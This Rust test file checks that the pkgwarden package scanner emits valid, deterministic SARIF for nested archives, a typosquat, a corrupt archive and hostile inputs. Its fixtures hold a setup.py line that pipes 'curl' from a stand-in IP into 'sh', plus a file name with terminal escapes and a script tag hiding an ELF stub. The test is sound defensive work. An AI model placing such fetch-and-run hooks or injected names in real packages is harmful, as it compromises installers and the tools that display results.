//! `scan --format sarif`: the output validates against the OASIS SARIF 2.1.0 schema
//! (`tests/data/sarif-schema-2.1.0.json`, JSON Schema draft-04, formats checked) for
//! the bundled fixtures, nested archives, a package-level finding, an unreadable archive
//! and hostile names; and says what `docs/sarif.md` promises (levels, rule indexes,
//! artifact chains, fingerprints stable across runs and thread counts).

use crate::common::{files, fixture, gzip, tar, zip};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

/// Runs pkgwarden from the crate's root (so `fixtures` is a relative input); the exit
/// code and stdout.
pub fn pkgwarden(args: &[&str]) -> (i32, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8(out.stdout).unwrap(),
    )
}

/// A fresh temp folder `name` holding `files`.
pub fn folder(name: &str, files: &[(&str, Vec<u8>)]) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("pkgwarden-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    for (f, bytes) in files {
        std::fs::write(dir.join(f), bytes).unwrap();
    }
    dir
}

fn entries(list: &[(&str, &[u8])]) -> Vec<(String, Vec<u8>)> {
    list.iter()
        .map(|(n, b)| (n.to_string(), b.to_vec()))
        .collect()
}

/// The libpeshnx dropper's files (an sdist's contents).
fn dropper_files() -> Vec<(String, Vec<u8>)> {
    files(&fixture("pypi/libpeshnx-sdist"))
}

/// `vendored-1.0.tar.gz`: a benign sdist carrying `vendor/bundle.zip`, which holds the
/// dropper as `libpeshnx-0.1.tar.gz`: two archives deep.
fn nested() -> Vec<u8> {
    let inner = gzip(&tar(&dropper_files(), "libpeshnx-0.1/"));
    let middle = zip(&entries(&[("libpeshnx-0.1.tar.gz", &inner)]), "");
    gzip(&tar(
        &entries(&[
            (
                "PKG-INFO",
                b"Metadata-Version: 2.1\nName: vendored\nVersion: 1.0\n",
            ),
            (
                "setup.py",
                b"from setuptools import setup\nsetup(name='vendored')\n",
            ),
            ("vendor/bundle.zip", &middle),
        ]),
        "vendored-1.0/",
    ))
}

/// `reqeusts-2.31.0.tar.gz`: a typosquat name, a finding about the package as a whole.
fn typosquat() -> Vec<u8> {
    gzip(&tar(
        &entries(&[
            (
                "PKG-INFO",
                b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.31.0\n",
            ),
            (
                "setup.py",
                b"from setuptools import setup\nsetup(name='reqeusts')\n",
            ),
        ]),
        "reqeusts-2.31.0/",
    ))
}

/// A control-character and `<script>` file name (an executable disguised as text) and
/// a dropper line whose snippet carries both.
pub fn hostile() -> Vec<u8> {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(256, 0);
    let setup = b"import os\nos.system(\"curl -fsSL http://192.0.2.1/<script>alert(1)</script>\x1b[2J\x07 | sh\")\n";
    gzip(&tar(
        &entries(&[
            (
                "PKG-INFO",
                b"Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n",
            ),
            ("setup.py", setup),
            ("notes\x1b[31m<script>alert(1)</script>\x07.txt", &elf),
        ]),
        "hostile-1.0/",
    ))
}

/// The archives beside the fixtures: nested, typosquat, unreadable, hostile.
pub fn extra_inputs() -> PathBuf {
    folder(
        "report-inputs",
        &[
            ("vendored-1.0.tar.gz", nested()),
            ("reqeusts-2.31.0.tar.gz", typosquat()),
            ("corrupt-1.0.tar.gz", gzip(b"not a tar")[..12].to_vec()),
            ("hostile-1.0.tar.gz", hostile()),
        ],
    )
}

fn sarif_validator() -> jsonschema::Validator {
    let schema: Value =
        serde_json::from_str(include_str!("../data/sarif-schema-2.1.0.json")).unwrap();
    jsonschema::options()
        .with_draft(jsonschema::Draft::Draft4)
        .should_validate_formats(true)
        .build(&schema)
        .unwrap()
}

/// Asserts `doc` is valid SARIF, listing every error otherwise.
fn assert_valid(validator: &jsonschema::Validator, doc: &Value) {
    let errors: Vec<String> = validator
        .iter_errors(doc)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "invalid SARIF:\n{}", errors.join("\n"));
}

fn scan_sarif(inputs: &[&str], jobs: &str) -> (i32, String) {
    let mut args = vec!["scan", "--format", "sarif", "--jobs", jobs];
    args.extend_from_slice(inputs);
    pkgwarden(&args)
}

/// The artifact URIs from `index` up its `parentIndex` chain.
fn chain(run: &Value, mut index: usize) -> Vec<String> {
    let mut out = Vec::new();
    loop {
        let a = &run["artifacts"][index];
        out.push(a["location"]["uri"].as_str().unwrap().to_string());
        match a["parentIndex"].as_u64() {
            Some(p) => {
                assert!((p as usize) < index, "a parent is listed before its child");
                index = p as usize;
            }
            None => return out,
        }
    }
}

#[test]
fn sarif_is_valid_and_complete() {
    let validator = sarif_validator();
    let extra = extra_inputs();
    let missing = extra.join("missing.tar.gz");
    let inputs = [
        "fixtures",
        extra.to_str().unwrap(),
        missing.to_str().unwrap(),
    ];
    let (code, out) = scan_sarif(&inputs, "4");
    assert_eq!(code, 1, "malicious fixtures fail the gate");
    let doc: Value = serde_json::from_str(&out).unwrap();
    assert_valid(&validator, &doc);
    assert_eq!(doc["version"], "2.1.0");
    let run = &doc["runs"][0];

    // Every rule, in id order, each with its document's text and GitHub's properties.
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(ids, pkgwarden::rules::ids());
    for r in rules {
        let doc = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join(r["properties"]["document"].as_str().unwrap());
        assert!(doc.is_file(), "{doc:?}");
        assert!(r["help"]["markdown"]
            .as_str()
            .unwrap()
            .contains("## Why it matters"));
        assert!(!r["fullDescription"]["text"].as_str().unwrap().is_empty());
        let sev = r["properties"]["security-severity"].as_str().unwrap();
        assert!(["9.5", "8.0", "5.5", "3.0", "1.0"].contains(&sev), "{sev}");
        assert_eq!(r["properties"]["tags"][1], "security");
    }

    let results = run["results"].as_array().unwrap();
    assert!(results.len() > 10, "fixtures report findings");
    for r in results {
        let rule = &rules[r["ruleIndex"].as_u64().unwrap() as usize];
        assert_eq!(rule["id"], r["ruleId"]);
        let want = match r["properties"]["severity"].as_str().unwrap() {
            "critical" | "high" => "error",
            "medium" => "warning",
            _ => "note",
        };
        assert_eq!(r["level"], want);
        let fp = r["partialFingerprints"]["pkgwarden/v1"].as_str().unwrap();
        assert_eq!(fp.len(), 64);
        assert_eq!(r["properties"]["id"].as_str().unwrap(), &fp[..12]);
        let loc = &r["locations"][0]["physicalLocation"];
        let index = loc["artifactLocation"]["index"].as_u64().unwrap() as usize;
        assert_eq!(
            loc["artifactLocation"]["uri"],
            run["artifacts"][index]["location"]["uri"]
        );
        if let Some(line) = loc["region"]["startLine"].as_u64() {
            assert!(line > 0);
        }
    }
    let find = |rule: &str, package: &str| {
        results
            .iter()
            .find(|r| r["ruleId"] == rule && r["properties"]["package"]["name"] == package)
            .unwrap_or_else(|| panic!("no {rule} in {package}"))
    };

    // Nested archives: the dropper's setup.py inside the zip inside the sdist.
    let dropper = find("dropper-chain", "vendored");
    let loc = &dropper["locations"][0]["physicalLocation"];
    assert!(loc["region"]["startLine"].as_u64().unwrap() > 0);
    assert!(!loc["region"]["snippet"]["text"]
        .as_str()
        .unwrap()
        .is_empty());
    let uris = chain(
        run,
        loc["artifactLocation"]["index"].as_u64().unwrap() as usize,
    );
    assert_eq!(uris.len(), 4, "{uris:?}");
    assert!(uris[0].ends_with("setup.py"), "{uris:?}");
    assert_eq!(uris[1], "libpeshnx-0.1.tar.gz");
    assert_eq!(uris[2], "vendored-1.0/vendor/bundle.zip");
    assert!(uris[3].starts_with("file:///") && uris[3].ends_with("/vendored-1.0.tar.gz"));
    let root = run["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["location"]["uri"] == uris[3].as_str())
        .unwrap();
    assert_eq!(root["roles"][0], "analysisTarget");
    assert_eq!(root["hashes"]["sha-256"].as_str().unwrap().len(), 64);

    // A package-level finding sits on the package's artifact, without a region.
    let squat = find("typosquat-name", "reqeusts");
    let loc = &squat["locations"][0]["physicalLocation"];
    assert!(loc.get("region").is_none());
    assert!(loc["artifactLocation"]["uri"]
        .as_str()
        .unwrap()
        .ends_with("/reqeusts-2.31.0.tar.gz"));
    assert!(squat["message"]["text"]
        .as_str()
        .unwrap()
        .starts_with("reqeusts 2.31.0: "));

    // Fixture folders are relative to where the scan ran; their files are on disk.
    let fixture_result = find("dropper-chain", "libpeshnx");
    let art = &fixture_result["locations"][0]["physicalLocation"]["artifactLocation"];
    assert_eq!(art["uriBaseId"], "%SRCROOT%");
    assert!(Path::new(env!("CARGO_MANIFEST_DIR"))
        .join(art["uri"].as_str().unwrap())
        .is_file());

    // Hostile names survive as JSON (percent-encoded in URIs, intact in properties).
    let disguised = find("embedded-executable", "hostile");
    let uri = disguised["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        .as_str()
        .unwrap();
    assert!(uri.contains("%1B%5B31m%3Cscript%3E"), "{uri}");
    let snippet = results
        .iter()
        .filter(|r| r["properties"]["package"]["name"] == "hostile")
        .filter_map(|r| r["locations"][0]["physicalLocation"]["region"]["snippet"]["text"].as_str())
        .find(|s| s.contains("<script>"))
        .expect("a hostile snippet");
    assert!(
        snippet.contains('\u{1b}') && snippet.contains('\u{7}'),
        "{snippet:?}"
    );

    // The unreadable archive and the missing input make the run unsuccessful.
    let invocation = &run["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], false);
    let notes = invocation["toolExecutionNotifications"].as_array().unwrap();
    assert!(notes.iter().any(|n| n["level"] == "error"
        && n["message"]["text"]
            .as_str()
            .unwrap()
            .contains("corrupt-1.0.tar.gz")
        && n["locations"][0]["physicalLocation"]["artifactLocation"]["index"].is_u64()));
    assert!(notes.iter().any(|n| n["level"] == "error"
        && n["message"]["text"]
            .as_str()
            .unwrap()
            .contains("missing.tar.gz")));

    // Deterministic: the same bytes again, and with one worker.
    assert_eq!(scan_sarif(&inputs, "4").1, out);
    assert_eq!(scan_sarif(&inputs, "1").1, out);
}

#[test]
fn sarif_of_a_clean_complete_scan() {
    let (code, out) = scan_sarif(&["fixtures/pypi/cext-build"], "1");
    assert_eq!(code, 0);
    let doc: Value = serde_json::from_str(&out).unwrap();
    assert_valid(&sarif_validator(), &doc);
    let run = &doc["runs"][0];
    assert_eq!(run["invocations"][0]["executionSuccessful"], true);
    assert!(run["invocations"][0]
        .get("toolExecutionNotifications")
        .is_none());
    assert_eq!(
        run["artifacts"][0]["location"]["uri"],
        "fixtures/pypi/cext-build/"
    );
    assert_eq!(run["artifacts"][0]["roles"][1], "directory");

    // The schema has teeth, formats included: a relative `helpUri` (why none is
    // written without a repository URL) and an unknown level are rejected.
    let validator = sarif_validator();
    let mut bad = doc.clone();
    bad["runs"][0]["tool"]["driver"]["rules"][0]["helpUri"] = "rules/a/b.md".into();
    assert!(!validator.is_valid(&bad));
    let mut bad = doc;
    bad["runs"][0]["tool"]["driver"]["rules"][0]["defaultConfiguration"]["level"] = "severe".into();
    assert!(!validator.is_valid(&bad));
}
